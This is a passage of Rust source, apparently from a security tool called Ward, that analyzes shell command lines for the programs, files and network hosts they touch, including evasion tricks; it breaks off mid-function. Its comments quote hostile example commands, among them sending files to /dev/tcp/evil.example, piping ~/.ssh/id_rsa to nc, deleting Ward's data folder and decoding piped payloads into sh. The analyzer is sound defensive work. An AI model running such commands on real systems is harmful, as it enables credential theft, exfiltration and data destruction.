//! Shell command analysis: what a command line would really run, which files it touches and
//! which hosts it talks to — through wrappers (`sudo`, `env`, `bash -lc`, `xargs`, …),
//! substitutions, pipelines, redirections and interpreter one-liners.
//!
//! Quoted text is data: `grep "rm -rf" src/` runs `grep`, not `rm`. Text becomes code only where
//! a program executes it (`sh -c`, `eval`, `watch`, `find -exec`, `ssh host cmd`, a shell reading
//! a pipe or here-document), and there it is analyzed recursively.

mod abbreviations;
mod braces;
mod code_options;
mod lexer;
mod printf;
mod streams;
mod tables;
mod tools;
mod uploads;

use std::collections::{HashMap, HashSet, VecDeque};

use serde::{Deserialize, Serialize};
use ward_model::{Access, PathTarget, ShellCommand};

use lexer::{lex, Op, RedirKind, Redirection, Token, Word};

/// Nesting limit for `sh -c 'sh -c "…"'`, substitutions and the like. Deeper input is reported
/// through [`ShellAnalysis::parse_error`] rather than followed.
const MAX_DEPTH: usize = 16;
/// Upper bound on the commands reported for one line, so hostile input cannot explode output.
const MAX_COMMANDS: usize = 2048;

/// What a shell command line would do.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct ShellAnalysis {
    /// Every simple command that would run, wrappers peeled off, in source order.
    pub commands: Vec<ShellCommand>,
    /// Files read, written, deleted or executed (redirections, well-known file arguments).
    pub paths: Vec<PathTarget>,
    /// URLs fetched or sent to.
    pub urls: Vec<String>,
    /// Host names contacted (lower-case, no port or user info).
    pub hosts: Vec<String>,
    /// The line could not be parsed completely (unterminated quote, substitution, here-document,
    /// nesting too deep). What could be read is still reported; callers should treat the
    /// command with caution.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub parse_error: Option<String>,
    /// Some program or script is only known at run time (`$CMD -rf /`, `eval "$X"`,
    /// `… | base64 -d | sh` on unknown input). Callers should treat the command with caution.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub dynamic: bool,
    /// Files a command writes or deletes whose whole path is only known at run time
    /// (`rm -rf $X`, `> "$(cat f)"`, `os.remove(chr(46) + …)`), each described for the reason:
    /// any of them could be Ward's own data, policy or cache folder or a tier marker, so the
    /// call gets the tier's fail mode (see [`ShellAnalysis::unanalyzed`]).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub unknown_targets: Vec<String>,
}

impl ShellAnalysis {
    /// True if any command runs `program` (basename).
    pub fn runs(&self, program: &str) -> bool {
        self.commands.iter().any(|c| c.program == program)
    }

    /// Why the line cannot be trusted to be what the analysis says, if it cannot: the text of
    /// [`ward_model::ToolCall::unanalyzed`], which gives the call the tier's fail mode.
    pub fn unanalyzed(&self) -> Option<String> {
        if let Some(e) = &self.parse_error {
            return Some(format!("shell command could not be fully parsed: {e}"));
        }
        if self.dynamic {
            return Some("shell command runs code that is only known at run time".to_owned());
        }
        let first = self.unknown_targets.first()?;
        let more = match self.unknown_targets.len() {
            1 => String::new(),
            n => format!(" (and {} more)", n - 1),
        };
        Some(format!(
            "{first}{more} is only known at run time: it could be Ward's own data, policy or cache \
             folder or a tier marker"
        ))
    }
}

/// Ward's own environment variables: where a command line does not assign them, `$NAME` is
/// read from the hook's environment (the agent's shell inherits the same), so `rm -rf
/// $WARD_HOME` is judged as the removal of Ward's data directory. `$HOME` is always `~`.
pub const WARD_VARIABLES: &[&str] =
    &["WARD_HOME", "WARD_POLICY", "WARD_SYSTEM_ROOT", "XDG_DATA_HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME"];

/// Whether `command` mentions one of [`WARD_VARIABLES`] (so its analysis depends on the
/// environment).
pub fn mentions_ward_variables(command: &str) -> bool {
    WARD_VARIABLES.iter().any(|v| command.contains(v))
}

/// Analyze a shell command line. Never fails: unparsable parts are reported in
/// [`ShellAnalysis::parse_error`] and everything readable is still analyzed.
pub fn analyze(command: &str) -> ShellAnalysis {
    analyze_with_env(command, &|_| None)
}

/// [`analyze`] in the hook's environment: [`WARD_VARIABLES`] the line does not assign are read
/// from `env`.
pub fn analyze_with_env(command: &str, env: &dyn Fn(&str) -> Option<String>) -> ShellAnalysis {
    let env: HashMap<String, String> = WARD_VARIABLES
        .iter()
        .filter_map(|name| Some((name.to_string(), env(name).filter(|v| !v.is_empty())?)))
        .collect();
    // A NUL byte ends a C string: a shell given this line through `execve` runs only the text
    // before it, while one reading it from a file or pipe may drop the byte and join the text
    // around it. Both readings are analyzed (the rules see the commands of either), and the
    // line counts as not fully analyzed.
    if let Some(at) = command.find('\0') {
        let mut analyzer = Analyzer { env: env.clone(), ..Analyzer::default() };
        analyzer.script(&command[..at], &[], 0);
        analyzer.reset_line_state();
        analyzer.script(&command.replace('\0', ""), &[], 0);
        analyzer.out.parse_error = Some(
            "the command contains a NUL byte (a shell runs only the text before it, or drops it)".to_owned(),
        );
        analyzer.finish();
        return analyzer.out;
    }
    let mut analyzer = Analyzer { env, ..Analyzer::default() };
    analyzer.script(command, &[], 0);
    analyzer.finish();
    analyzer.out
}

/// Marks, in the analyzer's argv words, a word whose value is only known at run time. NUL
/// cannot occur in a real argument (the input is cut at NUL before lexing), so the marker
/// cannot be forged; [`Analyzer::record`] strips it and lists the word in
/// [`ShellCommand::unknown_args`].
const UNKNOWN: char = '\0';

fn is_unknown(word: &str) -> bool {
    word.starts_with(UNKNOWN)
}

/// After [`UNKNOWN`]: the unknown word is exactly one word (a quoted `"$X"`), not a run of
/// words an unquoted expansion may split into.
const ONE_WORD: char = '\u{1}';

fn plain(word: &str) -> &str {
    match word.strip_prefix(UNKNOWN) {
        Some(rest) => rest.strip_prefix(ONE_WORD).unwrap_or(rest),
        None => word,
    }
}

fn splits(word: &str) -> bool {
    is_unknown(word) && !word[UNKNOWN.len_utf8()..].starts_with(ONE_WORD)
}

/// Host recorded for a network program whose destination is only known at run time: it is on
/// no allowlist, so allowlist rules treat the call as leaving it.
pub const UNKNOWN_HOST: &str = "(unknown-host)";

/// What flows out of a command's stdout, as far as it matters for what a downstream shell runs.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Stream {
    /// Nothing known to be piped (start of a pipeline).
    None,
    /// Content downloaded from the network.
    Download,
    /// Text known statically (`echo …`, a here-document, `$(echo rm)`).
    Literal(String),
    /// Text with expansions bash makes before the command reads it (a here-document with
    /// `$(…)` in it): as code, analyzed as written (its substitutions are then analyzed); as
    /// data (`read`, `xargs`), unknown.
    Unexpanded(String),
    /// File names, one per line, each one a path these patterns name (`find ~/.aws`,
    /// `fd`, `ls`): what `xargs`, `read` and `$(…)` make of them is matched cautiously.
    Names(Vec<String>),
    /// Content computed at run time.
    Opaque,
}

#[derive(Default)]
struct Analyzer {
    out: ShellAnalysis,
    /// Variables assigned literally earlier in the line (`X=rm; $X -rf /`).
    vars: HashMap<String, String>,
    /// Loop variables and the words they take in turn (`for f in ~/.aws/{x,credentials}`):
    /// an argument naming one stands for one argument per word.
    loop_vars: HashMap<String, Vec<String>>,
    /// Analyzing the command of `find -exec`, whose `{}` stands for the found files.
    in_find_exec: bool,
    /// The directory an earlier `cd`/`pushd` in the line moved to: relative paths after it are
    /// resolved against it. `Some("")`: moved somewhere only known at run time.
    cwd: Option<String>,
    /// `alias NAME=VALUE` seen earlier in the line.
    aliases: HashMap<String, String>,
    /// Files written earlier in the line by a redirection, with their content when it is
    /// known (`echo 'rm -rf ~' > x.sh`, `cat > x.py <<EOF`): running one analyzes it.
    written: HashMap<String, Option<String>>,
    /// [`WARD_VARIABLES`] as the hook's environment sets them.
    env: HashMap<String, String>,
    /// Variables assigned a value only known at run time (apart from those never assigned).
    unknown_vars: HashSet<String>,
    /// Variables whose value at run time may be text Ward has not seen (read from a file or a
    /// command's output; not a count or another number): evaluated as arithmetic, such a
    /// value can run code (`a[$(cmd)]`).
    text_vars: HashSet<String>,
    /// Variables declared integers (`declare -i n`): what is assigned to them is arithmetic.
    integer_vars: HashSet<String>,
    /// The line declares an associative array (`declare -A`): `${!a[@]}` may be any text.
    associative: bool,
    /// The working directory on entering each subshell `( … )` / `$( … )` now open: a `cd`
    /// inside one ends with it, and what it assigns may not outlive it.
    subshells: Vec<Option<String>>,
    /// The simple command being analyzed is one stage of a pipeline (a subshell in bash).
    in_pipeline: bool,
    /// Files written or deleted since the last command ended: what this line recorded of their
    /// content ([`Analyzer::written`]) no longer holds.
    writes: Vec<String>,
    /// Compound commands whose input redirection was looked up ahead (bounded: each look is
    /// a scan of the rest of the line).
    lookaheads: usize,
    /// The command being analyzed changes files' metadata only (`chmod`, `touch`): their
    /// content as this line wrote it still holds.
    metadata_only: bool,
    /// The names assigned before the command being analyzed (`CDPATH=~ cd x`,
    /// `CURL_HOME=. curl …`).
    prefix_names: Vec<String>,
    /// `shopt -s cdable_vars` ran in the line: `cd NAME` may go to the directory `$NAME` holds.
    cdable_vars: bool,
    /// Functions defined in the line: a call runs a body analyzed where it was defined.
    functions: HashSet<String>,
    /// Every value each variable was given in the line: after a function call, or in a body
    /// that may run again, any of them may be what it holds.
    history: HashMap<String, Vec<String>>,
    /// Inside `if`/`while`/`until`/`for`/`case` bodies (their depth), or after `&&`/`||`: an
    /// assignment may not have run, so the old value may still be there.
    conditional: usize,
    after_and_or: bool,
    /// Tokens lexed so far: a line that makes analysis do too much work (an `eval` of itself
    /// several times over) stops being analyzed and is unanalyzable.
    work: usize,
    /// [`ShellAnalysis::paths`] as a set, so each addition is checked in constant time.
    path_index: HashSet<PathTarget>,
    /// Paths the line spells out anywhere (arguments, assignments, here-documents), at most
    /// [`MAX_MENTIONED`]: a file read whose name is only known at run time may be one of them.
    mentioned: Vec<String>,
    /// A file is read whose name is only known at run time.
    unknown_read: bool,
    /// The line spells out more paths than [`MAX_MENTIONED`].
    mentions_overflowed: bool,
    /// Where the line had gone (`cd`) when it read a file whose name is only known at run time.
    unknown_read_dirs: Vec<String>,
}

/// Paths remembered as mentioned by a line.
const MAX_MENTIONED: usize = 256;

/// Tokens analyzed at most for one line (nested scripts included).
const MAX_WORK: usize = 1_000_000;

/// What closes a compound command, for finding the redirections after it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Closer {
    Done,
    Fi,
    Esac,
    Brace,
    Paren,
    /// A `for`/`select` header: its body is `do … done` or `{ … }`.
    ForBody,
}

/// Compound commands whose closer is looked up at most this many times per line; beyond it,
/// their input is taken as unknown.
const MAX_LOOKAHEADS: usize = 64;

/// A `for`/`select` header being read: its variable's name, whether `in` was read, and the
/// list's words (None once one is not known statically).
struct LoopHeader {
    name: Option<String>,
    listing: bool,
    words: Option<Vec<String>>,
    /// A word of the list is only known at run time and may be any text (not `$(seq 5)`).
    text: bool,
}

impl Default for LoopHeader {
    fn default() -> LoopHeader {
        LoopHeader { name: None, listing: false, words: Some(Vec::new()), text: false }
    }
}

/// A simple command as parsed: words and redirections.
#[derive(Default)]
struct Simple {
    words: Vec<Word>,
    redirs: Vec<Redirection>,
}

impl Analyzer {
    fn error(&mut self, msg: &str) {
        if self.out.parse_error.is_none() {
            self.out.parse_error = Some(msg.to_owned());
        }
    }

    fn reset_line_state(&mut self) {
        self.vars.clear();
        self.loop_vars.clear();
        self.unknown_vars.clear();
        self.text_vars.clear();
        self.integer_vars.clear();
        self.associative = false;
        self.history.clear();
        self.functions.clear();
        self.cwd = None;
        self.aliases.clear();
        self.written.clear();
        self.writes.clear();
        self.subshells.clear();
        self.conditional = 0;
        self.after_and_or = false;
        self.in_pipeline = false;
    }

    /// A path the line spells out (`echo ~/.aws/credentials > l`, `X=~/.ssh/id_rsa`): what a
    /// read computed at run time (`sed … l | xargs cat`) may have made of it.
    fn mention(&mut self, text: &str) {
        // Variables known by now are read as their values (`F=$HOME/.aws/x`, `<<< "$F"`).
        let expanded;
        let text = if text.contains('$') {
            expanded = self
                .expand_variables(text)
                .unwrap_or_else(|| text.replace("${HOME}", "~").replace("$HOME", "~"));
            expanded.as_str()
        } else {
            text
        };
        // `printf '%s/.aws/credentials\n'`, `~/.ssh/id_rsa%`: escapes and characters no path
        // holds end a word too.
        for word in text.split(|c: char| c.is_whitespace() || matches!(c, '\\' | '%' | '$' | '{' | '}')) {
            let word = word.trim_matches(|c| {
                matches!(c, '"' | '\'' | '(' | ')' | ';' | ',' | '`' | '|' | '&' | '<' | '>')
            });
            let pathlike = tables::looks_like_path(word)
                && (word.contains('/') || word.starts_with('~') || word.starts_with('.'))
                && !word.contains("://");
            if !pathlike {
                continue;
            }
            // A relative path is where the line's `cd` took it.
            let Some(path) = self.known_path(word) else { continue };
            if self.mentioned.contains(&path) {
                continue;
            }
            if self.mentioned.len() >= MAX_MENTIONED {
                self.mentions_overflowed = true;
                continue;
            }
            self.mentioned.push(path);
        }
    }

    /// The line is analyzed: a file read whose name is only known at run time may be any path
    /// the line spells out, however it was transformed (`echo ~/.aws/credentialz > l;
    /// sed -i s/z$/s/ l; xargs -a l cat`). For each, it is reported as reading the path, any
    /// file beside it (`~/.aws/*`: the name edited or cut) and any file in it (a directory
    /// listed, then transformed), except beside a file directly in the home or the working
    /// directory, or in those themselves (`~/*` would be every dot file there). Not covered: a
    /// path rebuilt from reordered parts (`**/id_rsa` would match every tree a rule protects,
    /// so any line would be denied). A line that names no path reads nothing more
    /// (`cat "$1"`).
    fn finish(&mut self) {
        if !self.unknown_read {
            return;
        }
        if self.mentions_overflowed {
            // Too many paths spelled out to say which one a computed read may be.
            self.out.dynamic = true;
        }
        let mut derived = Vec::new();
        for dir in std::mem::take(&mut self.unknown_read_dirs) {
            let dir = dir.trim_end_matches('/');
            derived.push(format!("{dir}/*"));
            derived.push(format!("{dir}/.*"));
        }
        let mut mentioned = std::mem::take(&mut self.mentioned);
        // A relative path may be joined to the home by the line (`$(echo ~)/$(echo .aws/…)`).
        let in_home: Vec<String> = mentioned
            .iter()
            .filter(|m| !m.starts_with(['/', '~', '*']) && !m.starts_with("./") && !m.starts_with(".."))
            .map(|m| format!("~/{m}"))
            .collect();
        mentioned.extend(in_home);
        for word in mentioned {
            let Some(path) = normalize_path(&word) else { continue };
            // Not beside a file directly in the home or the working directory: `~/.bashrc`
            // would stand for every dot file there (`~/.b*`: `.bash_history`).
            let sibling =
                path.rsplit_once('/').filter(|(parent, _)| !matches!(*parent, "" | "~" | "." | "**"));
            if let Some((parent, _)) = sibling {
                derived.push(format!("{parent}/*"));
            }
            // A directory the line names (`find ~/.ssh -printf …`, `ls ~/.ssh | sed …`) may hold
            // the file; not the home, the working directory or the root themselves.
            if !matches!(path.as_str(), "" | "~" | "." | "/" | "**") && !path.ends_with("/**") {
                derived.push(format!("{}/*", path.trim_end_matches('/')));
            }
            derived.push(path);
        }
        for path in derived.into_iter().take(4 * MAX_MENTIONED) {
            let target = PathTarget { path, access: Access::Read };
            if self.path_index.insert(target.clone()) {
                self.out.paths.push(target);
            }
        }
    }

    fn add_path(&mut self, path: &str, access: Access) {
        let known = self.known_path(path);
        self.dev_tcp(known.as_deref().unwrap_or(plain(path)));
        let path = match known {
            Some(p) => {
                if matches!(access, Access::Write | Access::Delete) && !self.metadata_only {
                    let key = normalize_path(&p).unwrap_or_else(|| p.clone());
                    self.writes.push(key.trim_start_matches("./").to_owned());
                }
                p
            }
            None => {
                if access == Access::Read {
                    self.unknown_read = true;
                    // A computed relative name names a file where the line has gone.
                    if let Some(dir) = self.cwd.clone().filter(|d| !d.is_empty()) {
                        if !self.unknown_read_dirs.contains(&dir) && self.unknown_read_dirs.len() < 16 {
                            self.unknown_read_dirs.push(dir);
                        }
                    }
                }
                if matches!(access, Access::Write | Access::Delete) {
                    let verb = if access == Access::Write { "written" } else { "deleted" };
                    self.unknown_target(format!("the path `{}` {verb} by this command", plain(path)));
                }
                return;
            }
        };
        let Some(path) = normalize_path(&path) else { return };
        if path.starts_with("<(") || path.starts_with(">(") {
            return;
        }
        // `{}` is the `find -exec` / `xargs -I{}` placeholder, not a file; `find` maps it back
        // to its start paths.
        if path == "{}" && !self.in_find_exec {
            return;
        }
        let target = PathTarget { path, access };
        if self.path_index.insert(target.clone()) {
            self.out.paths.push(target);
        }
    }

    /// The path an argument names as far as it is known: literal paths are resolved against an
    /// earlier `cd`; a path whose start is only known at run time (`$DIR/spool`,
    /// `$(pwd)/.env`) may lie anywhere, so it becomes `**/rest` (matched cautiously); one
    /// that is unknown altogether names nothing to match and is left out.
    fn known_path(&self, path: &str) -> Option<String> {
        let mut text = plain(path).to_owned();
        if is_unknown(path) || text.contains('$') || text.contains('`') {
            let expanded = if text.contains('`') || text.contains("$(") || !text.contains('$') {
                None
            } else {
                self.expand_variables(&text)
            };
            if let Some(v) = expanded {
                text = v;
            } else {
                // Each part only known at run time may be any number of directories:
                // `/home/$USER/.aws/credentials` → `/home/**/.aws/credentials`.
                // A word unknown as a whole with no `$` in it (xargs input) is unknown from its
                // first segment.
                let whole = is_unknown(path) && !text.contains('$') && !text.contains('`');
                // `${f:+.ssh/id_rsa}`: an expansion with an operator may hold any path,
                // slashes included; it is one unknown part.
                let whole_text = braced_expansions_as_one(&text).into_owned();
                let mut segs: Vec<String> = Vec::new();
                for (i, seg) in whole_text.split('/').enumerate() {
                    // A part whose variables are known keeps its value (`$HOME/$(…)` is
                    // `~/**`, not wholly unknown).
                    let seg = if whole && i == 0 {
                        "**".to_owned()
                    } else if seg.contains('$') || seg.contains('`') {
                        match self.expand_variables(seg) {
                            Some(value) if !value.contains('`') && !value.is_empty() => value,
                            // `/tmp/build.$$`: the shell's numbers (`$$`, `$!`, `$?`, `$#`)
                            // are digits, never a `/`: one name in this directory.
                            _ if only_numeric_parameters(seg) => {
                                NUMERIC_PARAMETERS.iter().fold(seg.to_owned(), |s, p| s.replace(p, "*"))
                            }
                            _ => "**".to_owned(),
                        }
                    } else {
                        seg.to_owned()
                    };
                    if !(seg == "**" && segs.last().is_some_and(|last| last == "**")) {
                        segs.push(seg);
                    }
                }
                if segs.iter().all(|s| s.is_empty() || s == "**") {
                    return None;
                }
                text = segs.join("/");
            }
        }
        // `~+` is the working directory, `~-` the previous one (only known at run time).
        if let Some(rest) = text.strip_prefix("~+").filter(|r| r.is_empty() || r.starts_with('/')) {
            text = format!(".{rest}");
        } else if let Some(rest) = text.strip_prefix("~-").filter(|r| r.is_empty() || r.starts_with('/')) {
            text = format!("**{rest}");
        }
        let relative = !(text.starts_with('/') || text.starts_with('~') || text.starts_with("**/"));
        match &self.cwd {
            Some(dir) if relative && dir.is_empty() => Some(format!("**/{text}")),
            Some(dir) if relative => Some(format!("{}/{text}", dir.trim_end_matches('/'))),
            _ => Some(text),
        }
    }

    /// An environment variable set for a command (`NAME=value cmd`, `env NAME=value cmd`,
    /// `export NAME=value`) that makes programs run code: a shell command in it is analyzed
    /// (`GIT_SSH_COMMAND='cat ~/.ssh/id_rsa | nc …'`), code Ward cannot see (`LD_PRELOAD`,
    /// `BASH_ENV`, a value only known at run time) makes the line dynamic.
    fn code_in_variable(
        &mut self,
        name: &str,
        value: &str,
        unknown: bool,
        wrappers: &[String],
        depth: usize,
    ) {
        if tables::is_proxy_variable(name) {
            // `https_proxy=http://evil:1 curl https://github.com`: the traffic goes to the proxy;
            // `PIP_INDEX_URL=…`, `GOPROXY=a,b|c`: the index a tool fetches from.
            if unknown {
                self.add_unknown_host();
            } else {
                for part in value.split([',', '|']).filter(|p| !matches!(*p, "" | "direct" | "off")) {
                    self.add_destination(part);
                }
            }
        }
        if tables::PROMPT_VARIABLES.contains(&name) {
            // `PS4='$(cmd)'; set -x`: the shell expands a prompt's `$(…)` each time it shows it.
            if unknown {
                self.out.dynamic = true;
            } else {
                for script in lexer::scripts_in(value, true) {
                    let _ = self.subshell_script(&script, &format!("{name}="), wrappers, depth);
                }
            }
        } else if tables::SHELL_COMMAND_VARIABLES.contains(&name) {
            if unknown || value.contains('$') || value.contains('`') {
                self.out.dynamic = true;
            } else if !value.trim().is_empty() {
                let mut inner = wrappers.to_vec();
                inner.push(format!("{name}="));
                self.script(value, &inner, depth + 1);
            }
        } else if tables::CODE_LOADING_VARIABLES.contains(&name) && !value.is_empty() {
            self.out.dynamic = true;
        }
    }

    /// A proxy or redirection target (`http://evil:8080`, `evil:8080`, `socks5h://evil`, an
    /// address): a host the traffic goes to; unknown when computed.
    fn add_destination(&mut self, value: &str) {
        if is_unknown(value) {
            self.add_unknown_host();
        } else if plain(value).contains("://") {
            self.add_url(plain(value), false);
        } else if !plain(value).is_empty() {
            let host = plain(value).rsplit('@').next().unwrap_or_default();
            let host = match host.strip_prefix('[') {
                Some(v6) => v6.split(']').next().unwrap_or_default(),
                None => host.split([':', '/']).next().unwrap_or_default(),
            };
            if !host.is_empty() {
                self.add_host(&host.to_ascii_lowercase());
            }
        }
    }

    /// A git configuration value, given to this call (`git -c`, `git clone -c`) or stored for
    /// later ones (`git config KEY VALUE`): a proxy (`http.proxy`, `http.curloptResolve`) is a
    /// destination, a command it runs (`core.pager`, `alias.x=!…`) is analyzed now. Code Ward
    /// cannot see (a hooks directory) makes a call given it dynamic; stored, it is left to the
    /// persistence rules.
    fn git_configuration(
        &mut self,
        key: &str,
        value: &str,
        unknown: bool,
        given_now: bool,
        wrappers: &[String],
        depth: usize,
    ) {
        if git_proxy_key(key) {
            if unknown {
                self.add_unknown_host();
            } else if !value.is_empty() {
                self.add_destination(&git_proxy_destination(key, value));
            }
        }
        let mut inner = wrappers.to_vec();
        inner.push(if given_now { format!("git -c {key}") } else { format!("git config {key}") });
        match tables::git_config_runs(key, value) {
            Some(_) if unknown => self.out.dynamic = true,
            Some(tables::GitConfigCode::Shell(script)) => {
                let _ = self.script(&script, &inner, depth + 1);
            }
            Some(tables::GitConfigCode::Unseen) if given_now => self.out.dynamic = true,
            Some(tables::GitConfigCode::Unseen) | None => {}
        }
    }

    /// Records a file written or deleted whose path is only known at run time.
    fn unknown_target(&mut self, what: String) {
        if self.out.unknown_targets.len() < 16 && !self.out.unknown_targets.contains(&what) {
            self.out.unknown_targets.push(what);
        }
    }

    /// The command a container runs with the workspace mounted writable (`docker run -v
    /// "$PWD":/w img sh -c '…'`): analyzed as the container's own shell line, and each path it
    /// names under a mount's target counted as the same path under the mount's source on the
    /// host (`/w/.ward-tier-sensitive` → `./.ward-tier-sensitive`). Paths elsewhere are the
    /// container's own. A command Ward cannot follow leaves the mounted files' fate unknown.
    /// The image's own command (none named) is not seen: building in a container with the
    /// workspace mounted is ordinary work in every tier.
    fn container_command(&mut self, command: &[String], workdir: Option<&str>, mounts: &[(String, String)]) {
        let unknown_mounts = |analyzer: &mut Analyzer| {
            for (host, _) in mounts {
                analyzer.unknown_target(format!(
                    "files under `{host}`, which the container's command may change (mounted writable; \
                     the command's targets are only known at run time)"
                ));
            }
        };
        if command.iter().any(|w| is_unknown(w)) || workdir.is_some_and(|w| w.starts_with(UNKNOWN)) {
            return unknown_mounts(self);
        }
        let line: Vec<String> = command.iter().map(|w| shell_quote(plain(w))).collect();
        let inner = analyze(&line.join(" "));
        if inner.dynamic || inner.parse_error.is_some() || !inner.unknown_targets.is_empty() {
            unknown_mounts(self);
        }
        for target in &inner.paths {
            if let Some(host) = container_to_host(&target.path, workdir, mounts) {
                self.add_path(&host, target.access);
            }
        }
    }

    /// Whether `name` is set for the command being analyzed: assigned before it, or earlier in
    /// the line (known or not).
    fn given_variable(&self, name: &str) -> bool {
        self.prefix_names.iter().any(|n| n == name)
            || self.vars.contains_key(name)
            || self.unknown_vars.contains(name)
    }

    /// `cd DIR` / `pushd DIR`: later relative paths in the line are under DIR. With CDPATH set
    /// in the line (`CDPATH=~ cd .local`, `export CDPATH=…; cd x`), a relative DIR that does
    /// not start with `.` or `..` is looked up in CDPATH's directories before the working
    /// directory: where the line then is is only known at run time.
    fn change_directory(&mut self, args: &[String]) {
        let operand = args.iter().find(|a| !plain(a).starts_with('-') || plain(a) == "-");
        let cdpath = self.cdable_vars || self.given_variable("CDPATH");
        let searched = |dir: &str| {
            let first = dir.split('/').next().unwrap_or_default();
            !dir.starts_with(['/', '~']) && !matches!(first, "." | "..")
        };
        let target = match operand {
            None => Some("~".to_owned()),
            Some(a) if plain(a) == "-" => None,
            Some(a) if cdpath && (is_unknown(a) || searched(plain(a))) => None,
            Some(a) => self.known_path(a).filter(|p| !p.starts_with("**/")),
        };
        self.cwd = Some(target.unwrap_or_default());
    }

    /// Bash opens `/dev/tcp/HOST/PORT` and `/dev/udp/HOST/PORT`, named in a redirection, as a
    /// connection to HOST (`cat f > /dev/tcp/evil.example/80`, `exec 3<>/dev/tcp/…`): a network
    /// destination like a URL. Named anywhere else it is a path that does not exist (Linux has
    /// no such files), so taking every such name for a connection costs nothing.
    fn dev_tcp(&mut self, path: &str) {
        let Some(rest) = path.strip_prefix("/dev/tcp/").or_else(|| path.strip_prefix("/dev/udp/")) else {
            return;
        };
        match rest.split('/').next() {
            Some(host) if self.add_host(host) => {}
            _ => self.add_unknown_host(),
        }
    }

    fn add_unknown_host(&mut self) {
        if !self.out.hosts.iter().any(|h| h == UNKNOWN_HOST) {
            self.out.hosts.push(UNKNOWN_HOST.to_owned());
        }
    }

    /// Adds `host` as a destination; false (nothing added) when it is no host name or address.
    fn add_host(&mut self, host: &str) -> bool {
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        if host.is_empty()
            || !host.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '_'))
        {
            return false;
        }
        if !self.out.hosts.contains(&host) {
            self.out.hosts.push(host);
        }
        true
    }

    /// A URL or a bare `host[:port][/path]` argument of a network client.
    fn add_url(&mut self, arg: &str, bare_host_ok: bool) {
        let hosts = url_hosts(arg);
        if !hosts.is_empty() {
            if !self.out.urls.iter().any(|u| u == arg) {
                self.out.urls.push(arg.to_owned());
            }
            for host in hosts {
                self.add_host(&host);
            }
        } else if bare_host_ok {
            if let Some(host) = bare_host(arg) {
                if !self.out.urls.iter().any(|u| u == arg) {
                    self.out.urls.push(arg.to_owned());
                }
                self.add_host(&host);
            }
        }
    }

    fn push_command(&mut self, cmd: ShellCommand) {
        if self.out.commands.len() >= MAX_COMMANDS {
            self.error("too many commands; analysis truncated");
            return;
        }
        self.out.commands.push(cmd);
    }

    /// Analyze a script; returns what its last pipeline writes to stdout.
    fn script(&mut self, src: &str, wrappers: &[String], depth: usize) -> Stream {
        self.script_fed(src, Stream::None, wrappers, depth)
    }

    /// A script whose commands read `fed` on stdin (a program's output piped to a shell
    /// command it starts).
    fn script_fed(&mut self, src: &str, fed: Stream, wrappers: &[String], depth: usize) -> Stream {
        if depth > MAX_DEPTH {
            self.error("commands nested too deeply to analyze");
            self.out.dynamic = true;
            return Stream::Opaque;
        }
        let lexed = lex(src);
        if let Some(e) = lexed.error {
            self.error(&e);
        }
        self.work += lexed.tokens.len() + 1;
        if self.work > MAX_WORK {
            self.error("too much to analyze");
            self.out.dynamic = true;
            return Stream::Opaque;
        }

        let mut current = Simple::default();
        let mut stdin = fed.clone();
        let mut last_out = Stream::None;
        // What each finished pipeline printed: a list prints all of them (`$(echo a; echo b)`),
        // and a group `{ …; }` / `( … )` what its own pipelines printed (from its mark).
        let mut printed: Vec<Stream> = Vec::new();
        let mut group_marks: Vec<usize> = Vec::new();
        let mut skip_to_separator = false;
        // `for NAME in WORDS`: the name and its words (None once a word is not known).
        let mut loop_header: Option<LoopHeader> = None;
        let mut case_depth = 0usize;
        let mut case_header = false;
        let mut case_pattern = false;
        let mut paren_depth = 0usize;
        // A deque, not an iterator: a loop's input redirection comes after its body
        // (`while read f; do …; done < list`) and is looked up ahead.
        let mut tokens: VecDeque<Token> = lexed.tokens.into();
        // The next simple command's stdin comes from a pipe.
        let mut piped = false;

        while let Some(tok) = tokens.pop_front() {
            if case_pattern {
                match tok {
                    Token::Op(Op::RParen) => case_pattern = false,
                    Token::Word(w) if w.text == "esac" && w.first_quoted.is_none() => {
                        case_pattern = false;
                        case_depth = case_depth.saturating_sub(1);
                    }
                    // `case x in $(cmd)) …`: a pattern is expanded, its substitutions run.
                    Token::Word(w) => {
                        let _ = self.substitutions(&w, wrappers, depth);
                    }
                    _ => {}
                }
                continue;
            }
            match tok {
                Token::Word(w) => {
                    if case_header {
                        if w.text == "in" && w.first_quoted.is_none() {
                            case_header = false;
                            case_pattern = true;
                        } else {
                            // `case $(cmd) in`: the word is expanded, its substitutions run.
                            let _ = self.substitutions(&w, wrappers, depth);
                        }
                        continue;
                    }
                    if skip_to_separator {
                        // `for f in $(cat ~/.netrc)`: the list's substitutions run; its words
                        // are what the loop variable takes.
                        let outputs = self.substitutions(&w, wrappers, depth);
                        if let Some(header) = &mut loop_header {
                            self.loop_word(header, w, &outputs);
                        }
                        continue;
                    }
                    if current.words.is_empty() && current.redirs.is_empty() && w.arithmetic_command {
                        // `(( n > 0 ))`: arithmetic, not a program `n` writing a file `0`.
                        let _ = self.substitutions(&w, wrappers, depth);
                        continue;
                    }
                    if current.words.is_empty() && current.redirs.is_empty() && w.first_quoted.is_none() {
                        match w.text.as_str() {
                            "if" | "then" | "else" | "elif" | "fi" | "do" | "done" | "while" | "until"
                            | "!" | "{" | "}" | "esac" | "[[" | "]]" => {
                                if w.text == "esac" {
                                    case_depth = case_depth.saturating_sub(1);
                                }
                                // The compound's first command (`read f` in `while read f`)
                                // reads what is redirected after its closer, not the pipe.
                                let opener = match w.text.as_str() {
                                    "while" | "until" => {
                                        self.conditional += 1;
                                        Some(Closer::Done)
                                    }
                                    "if" => {
                                        self.conditional += 1;
                                        Some(Closer::Fi)
                                    }
                                    "fi" | "done" | "esac" => {
                                        self.conditional = self.conditional.saturating_sub(1);
                                        None
                                    }
                                    "{" => {
                                        group_marks.push(printed.len());
                                        Some(Closer::Brace)
                                    }
                                    "}" => {
                                        if let Some(mark) = group_marks.pop() {
                                            last_out = combined(&printed[mark.min(printed.len())..]);
                                        }
                                        None
                                    }
                                    _ => None,
                                };
                                if let Some(opener) = opener {
